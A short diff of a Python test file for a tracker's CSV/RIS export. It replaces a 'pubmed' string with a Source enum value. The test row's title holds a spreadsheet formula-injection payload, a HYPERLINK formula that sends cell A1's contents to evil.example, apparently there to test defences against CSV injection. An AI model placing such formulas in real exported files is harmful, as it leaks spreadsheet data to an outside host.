@@ -13,6 +13,7 @@ import rispy
 
 from tracker.export.rows import ExportRow, Person
 from tracker.export.writers import write_csv, write_ris
+from tracker.ids import Source
 from tracker.reports.digest_data import Digest, Item, Section
 from tracker.reports.render.markdown import render_digest_markdown
 
@@ -23,7 +24,7 @@ def _row(**over: Any) -> ExportRow:
     row = ExportRow(
         id="PMID:1",
         kind="article",
-        source="pubmed",
+        source=Source.PUBMED,
         title='=HYPERLINK("https://evil.example/?"&A1,"click")',
         url="https://pubmed.ncbi.nlm.nih.gov/1/",
         study=None,
